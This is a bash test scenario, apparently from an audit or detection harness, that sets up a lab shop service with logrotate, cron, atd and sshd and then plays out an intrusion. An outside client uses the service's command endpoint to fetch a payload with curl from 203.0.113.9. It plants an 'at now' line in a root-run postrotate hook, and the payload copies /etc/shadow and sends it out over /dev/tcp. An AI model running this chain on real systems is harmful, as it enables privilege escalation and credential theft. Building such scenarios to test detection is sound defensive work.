# shellcheck shell=bash disable=SC2034
HOST=web13
FORMAT=RAW
UNSET=1
ROOT=1
BACKLOG=320

ask() { outside curl -s -o /dev/null --interface "$1" "http://10.88.0.10:8080/$2"; }

administer() {
    outside ssh -o StrictHostKeyChecking=no -o UserKnownHostsFile=/dev/null -o LogLevel=ERROR -b 10.88.0.55 -i "$work/ops.key" ops@10.88.0.10 "$1"
}

visits() {
    while :; do
        ask 192.0.2.7 run/date
        ask 10.88.0.55 ""
        sleep 2
    done
}

scenario() {
    mkdir -p /srv/shop/bin /srv/shop/log /srv/daily /run/sshd "$work/theirs"
    fresh /var/spool/cron /var/spool/anacron /var/lib/logrotate
    cp "$folder/../jobs/service.py" /srv/shop
    account shop 4050
    account ops 4051
    printf '%s\n' '#!/bin/sh' 'touch /srv/shop/rotated' >/srv/shop/bin/after
    chmod 755 /srv/shop/bin/after
    chown -R shop /srv/shop
    rm -f /etc/cron.d/* /etc/crontab /etc/logrotate.d/*
    printf '%s\n' '/srv/shop/log/access.log {' '  su root root' '  rotate 5' '  size 1' '  postrotate' '    /srv/shop/bin/after' '  endscript' '}' \
        >/etc/logrotate.d/shop
    printf '%s\n' '#!/bin/sh' '/usr/sbin/logrotate /etc/logrotate.d/shop' >/srv/daily/logrotate
    chmod 755 /srv/daily/logrotate
    printf '%s\n' 'SHELL=/bin/sh' '1 0 cron.daily run-parts --report /srv/daily' >/etc/anacrontab
    printf '%s\n' '* * * * * root /usr/sbin/anacron -s -f -d >/dev/null 2>&1' >/etc/cron.d/anacron
    ssh-keygen -q -t ed25519 -N "" -f /srv/host.key
    ssh-keygen -q -t ed25519 -N "" -f "$work/ops.key"
    install -m 600 -o ops "$work/ops.key.pub" /srv/home/ops/.ssh/authorized_keys
    touch /srv/home/ops/.hushlogin
    printf '%s\n' "HostKey /srv/host.key" "PidFile none" "UsePAM yes" "PasswordAuthentication no" "PrintMotd no" >/srv/sshd_config
    printf '%s\n' 'cp /etc/shadow /srv/shop/.s' 'exec 3<>/dev/tcp/203.0.113.9/8443' 'cat /srv/shop/.s >&3' >"$work/theirs/z"
    theirs
    sleep $((70 - 10#$(date +%S)))
    inside /usr/sbin/sshd -D -f /srv/sshd_config >/dev/null 2>&1 &
    inside setpriv --reuid 4050 --regid 4050 --clear-groups env HOME=/srv/home/shop \
        sh -c 'exec /usr/bin/python3 -S -B /srv/shop/service.py >>/srv/shop/log/access.log 2>&1' &
    inside /usr/sbin/atd -f &
    inside /usr/sbin/cron -f &
    sleep 3
    visits &
    local visits=$!
    sleep 3
    administer 'for turn in 1 2; do cat /usr/share/doc/*/copyright > all; done' &
    local busy=$!
    sleep 1
    ask 198.51.100.23 "run/$(quoted 'curl -s -o /srv/shop/.z http://203.0.113.9:443/z')"
    wait "$busy"
    sleep 12
    ask 198.51.100.23 "run/$(quoted "echo \"echo 'bash /srv/shop/.z' | at now\" >> /srv/shop/bin/after")"
    sleep $((66 - 10#$(date +%S)))
    sleep 2
    administer "ls -l /srv/shop"
    kill "$visits"
    auditctl -s | grep lost >&2
    rm -f /run/crond.pid /run/atd.pid
}
